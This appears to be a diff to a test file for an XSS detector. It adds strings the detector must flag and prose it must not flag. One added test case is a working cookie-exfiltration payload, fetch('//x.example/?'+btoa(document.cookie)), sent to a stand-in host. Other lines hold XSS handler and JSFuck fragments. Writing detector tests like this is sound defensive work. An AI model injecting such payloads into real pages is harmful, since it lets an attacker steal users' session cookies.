@@ -80,6 +80,8 @@ MUST_FIRE = [
     (" onwebkitplaybacktargetavailabilitychanged=", "xss.handler"),
     # JSFuck whose "+" a form turned into spaces.
     ("(![] [])[ ! []]", "xss.jsfuck"),
+    ("btoa()", "xss.call"),
+    ("fetch('//x.example/?'+btoa(document.cookie))", "xss.call"),
 ]
 
 # Prose with HTML and script words, angle brackets, e-mail addresses, code
@@ -135,6 +137,7 @@ MUST_NOT_FIRE = [
     "Cost: [] [] [] (empty boxes)",
     "![](a.png) ![](b.png) [] []",
     "Zoë ❤️ <3 a<b>c",
+    "Encode it with btoa (base64)",
 ]
 
 
